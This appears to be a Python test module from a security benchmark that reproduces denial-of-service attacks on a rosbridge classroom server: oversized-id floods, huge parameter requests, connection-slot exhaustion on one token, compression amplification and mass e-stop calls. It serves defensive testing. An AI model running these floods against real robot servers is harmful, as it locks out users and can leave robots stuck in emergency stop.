"""Attacks on what one student makes the server hold or do (issue 29, rows 4-6, 10 and 12).

Each attack is an ``async`` function ``attack(url, stop) -> str`` as in
:mod:`bench.stateattacks`; ``url(who)`` is the rosbridge URL for ``"student"`` (robot r1's
student), ``"student-r3"`` (another student), ``"admin"`` or ``None``. ``python -m bench
hostile NAME ...`` runs them on the class server of :mod:`bench.hostile` (classroom world and
parameters, student tokens, an admin token) beside a quiet baseline of the same run:

* ``ids_subscribe``, ``ids_advertise``: subscribe and advertise ops with distinct ~900 kB ids;
* ``calls_own``: calls with ~900 kB ids (``timeout: 0``) to a service the student provides and
  never answers;
* ``goals_own``: goals with 900 kB arguments to an action the student serves and never answers;
* ``params``: ``describe_parameters``, ``get_parameters`` and ``list_parameters`` of
  ``/virtual_robot`` with 99,000 names (or prefixes) each, one after the other;
* ``token_slots``: 199 connections on r1's token, then r3's student and the admin connect;
* ``token_share``: 24 connections on r1's token, each publishing 400 kB frames back to back;
* ``png_spellings``: 990 kB publishes to a topic subscribed with ``png`` under four spellings;
* ``estop_latches``: 15,000 calls to ``/r1/estop``, then the latches ``/simbridge/access`` lists.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
from typing import Any

from websockets.asyncio.client import ClientConnection, connect
from websockets.exceptions import InvalidStatus

from bench.stateattacks import Attack, Url, _drain, _flood, _summary


#: The length of the long ids and arguments (a student's frames are at most 1 MB).
LONG = 900_000


def _dumps(obj: Any) -> str:
    return json.dumps(obj)


async def ids_subscribe(url: Url, stop: asyncio.Event) -> str:
    """1,000 subscribe ops with distinct ~900 kB ids (ten topics, 100 ids each)."""
    pad = "s" * LONG
    return await _flood(
        url("student"),
        stop,
        lambda i: _dumps({"op": "subscribe", "topic": f"/r1/t{i // 100}", "id": f"{i}{pad}"}),
        "subscribes with 900 kB ids",
        1_000,
    )


async def ids_advertise(url: Url, stop: asyncio.Event) -> str:
    """1,000 advertise ops of one topic with distinct ~900 kB ids."""
    pad = "a" * LONG
    return await _flood(
        url("student"),
        stop,
        lambda i: _dumps(
            {"op": "advertise", "topic": "/r1/chatter", "type": "std_msgs/String"}
            | {"id": f"{i}{pad}"}
        ),
        "advertises with 900 kB ids",
        1_000,
    )


async def calls_own(url: Url, stop: asyncio.Event) -> str:
    """Calls with ~900 kB ids and ``timeout: 0`` to the student's own service, never answered."""
    pad = "c" * LONG
    first = _dumps({"op": "advertise_service", "service": "/r1/sink", "type": "r1pkg/Sink"})

    def frame(i: int) -> str:
        if i == 0:
            return first
        call = {"op": "call_service", "service": "/r1/sink", "id": f"{i}{pad}", "timeout": 0}
        return _dumps(call)

    return await _flood(
        url("student"), stop, frame, "calls with 900 kB ids to its own service", 1_000
    )


async def goals_own(url: Url, stop: asyncio.Event) -> str:
    """400 goals with 900 kB arguments to the student's own action, never answered."""
    args = {"blob": "g" * LONG}
    first = _dumps({"op": "advertise_action", "action": "/r1/act", "type": "r1pkg/Act"})

    def frame(i: int) -> str:
        if i == 0:
            return first
        goal = {"op": "send_action_goal", "action": "/r1/act", "action_type": "r1pkg/Act"}
        return _dumps(goal | {"id": f"g{i}", "args": args})

    return await _flood(
        url("student"), stop, frame, "goals with 900 kB args to its own action", 401
    )


async def params(url: Url, stop: asyncio.Event) -> str:
    """The parameter services of /virtual_robot with 99,000 names (or prefixes) in each call."""
    names = ["x"] * 99_000
    calls = [
        ("describe_parameters", {"names": names}),
        ("get_parameters", {"names": names}),
        ("list_parameters", {"prefixes": names, "depth": 0}),
    ]
    answers: dict[str, int] = {}
    sizes: list[int] = []
    sent = 0
    async with connect(url("student"), max_size=None, open_timeout=10) as ws:
        while not stop.is_set():
            service, args = calls[sent % 3]
            op = {"op": "call_service", "service": f"/virtual_robot/{service}", "id": f"p{sent}"}
            await ws.send(_dumps(op | {"args": args}))
            sent += 1
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(10):
                    while True:
                        data = await ws.recv()
                        msg = json.loads(data)
                        if msg.get("id") == op["id"]:
                            sizes.append(len(data))
                            ok = msg.get("result")
                            text = "" if ok else str(msg.get("values"))[:80]
                            key = f"{service}: {'ok' if ok else text}"
                            answers[key] = answers.get(key, 0) + 1
                            break
    largest = max(sizes, default=0)
    return _summary(sent, f"parameter calls of 99,000 names (largest answer {largest} B)", answers)


async def token_slots(url: Url, stop: asyncio.Event) -> str:
    """199 connections on r1's token; then whether r3's student and the admin get in."""
    held: list[ClientConnection] = []
    refused: dict[str, int] = {}
    try:
        for _ in range(199):
            if stop.is_set():
                break
            try:
                held.append(await connect(url("student"), open_timeout=10))
            except InvalidStatus as err:
                key = f"r1: HTTP {err.response.status_code}"
                refused[key] = refused.get(key, 0) + 1
        got_in = []
        for who in ("student-r3", "admin"):
            try:
                async with connect(url(who), open_timeout=10) as ws:
                    await ws.send(_dumps({"op": "call_service", "service": "/rosapi/topics"}))
                    await asyncio.wait_for(ws.recv(), 10)
                    got_in.append(f"{who} served")
            except InvalidStatus as err:
                got_in.append(f"{who} HTTP {err.response.status_code}")
        said = ", ".join(f"{n} x {k}" for k, n in refused.items()) or "none refused"
        text = f"r1 held {len(held)} connections ({said}); {'; '.join(got_in)}"
        locked_out = any("HTTP" in t for t in got_in)
        return f"BREACH: {text}" if locked_out else text
    finally:
        for ws in held:
            with contextlib.suppress(Exception):
                await ws.close()


async def token_share(url: Url, stop: asyncio.Event) -> str:
    """24 connections on r1's token, each publishing 400 kB strings back to back."""
    body = _dumps(
        {"op": "publish", "topic": "/r1/big", "type": "std_msgs/String"}
        | {"msg": {"data": "b" * 400_000}}
    )

    async def one() -> str:
        try:
            return await _flood(url("student"), stop, lambda i: body, "400 kB publishes", 10**7)
        except InvalidStatus as err:
            return f"refused: HTTP {err.response.status_code}"

    texts = await asyncio.gather(*(one() for _ in range(24)))
    refused = sum(t.startswith("refused") for t in texts)
    return f"24 connections ({refused} refused): " + texts[0]


async def png_spellings(url: Url, stop: asyncio.Event) -> str:
    """990 kB publishes to a topic subscribed with ``png`` under four spellings."""
    answers: dict[str, int] = {}
    body = _dumps(
        {"op": "publish", "topic": "/r1/big", "type": "std_msgs/String"}
        | {"msg": {"data": "p" * 990_000}}
    )
    sent = 0
    async with (
        connect(url("student"), max_size=None, open_timeout=10) as pub,
        connect(url("student-r3"), max_size=None, open_timeout=10) as sub,
    ):
        reader = asyncio.create_task(_drain(sub, answers))
        quiet = asyncio.create_task(_drain(pub, {}))
        for spelling in ("/r1/big", "r1/big", "/r1/big/", "r1/big/"):
            await sub.send(_dumps({"op": "subscribe", "topic": spelling, "compression": "png"}))
        await asyncio.sleep(0.2)
        while not stop.is_set():
            await pub.send(body)
            sent += 1
            await asyncio.sleep(0.05)
        reader.cancel()
        quiet.cancel()
    return _summary(sent, "990 kB publishes, png under 4 spellings", answers)


async def estop_latches(url: Url, stop: asyncio.Event) -> str:
    """15,000 calls to /r1/estop (50 a frame); then how many latches hold r1."""
    call = _dumps({"op": "call_service", "service": "/r1/estop", "id": "e"})
    answers: dict[str, int] = {}
    sent = 0
    async with connect(url("student"), max_size=None, open_timeout=10) as ws:
        reader = asyncio.create_task(_drain(ws, answers))
        while sent < 15_000 and not stop.is_set():
            await ws.send(call * 50)
            sent += 50
            await asyncio.sleep(0)
        reader.cancel()
    async with connect(url("admin"), max_size=None, open_timeout=10) as ws:
        await ws.send(_dumps({"op": "call_service", "service": "/simbridge/access", "id": "a"}))
        reply = await _reply(ws, "a")
        access = json.loads(reply["values"]["message"])
        latches = len(access["estop"]["latches"])
        await ws.send(_dumps({"op": "call_service", "service": "/estop/reset", "id": "r"}))
        released = await _reply(ws, "r")
        size = len(json.dumps(released))
    return f"sent {sent} /r1/estop calls; {latches} latches hold r1; the release answer {size} B"


async def _reply(ws: ClientConnection, op_id: str) -> Any:
    async with asyncio.timeout(20):
        while True:
            msg = json.loads(await ws.recv())
            if msg.get("id") == op_id:
                return msg


#: The item of issue 29 each attack reproduces.
ROWS = {
    "ids_subscribe": "29.4",
    "ids_advertise": "29.4",
    "calls_own": "29.4",
    "goals_own": "29.4",
    "params": "29.5",
    "token_slots": "29.6",
    "token_share": "29.6",
    "png_spellings": "29.10",
    "estop_latches": "29.12",
}

ATTACKS: dict[str, tuple[str, Attack]] = {
    "ids_subscribe": ("subscribes with 900 kB ids", ids_subscribe),
    "ids_advertise": ("advertises with 900 kB ids", ids_advertise),
    "calls_own": ("900 kB-id calls to its own service", calls_own),
    "goals_own": ("900 kB goals to its own action", goals_own),
    "params": ("parameter calls of 99,000 names", params),
    "token_slots": ("199 connections on one token", token_slots),
    "token_share": ("24 connections x 400 kB frames", token_share),
    "png_spellings": ("png under four spellings", png_spellings),
    "estop_latches": ("15,000 /r1/estop calls", estop_latches),
}
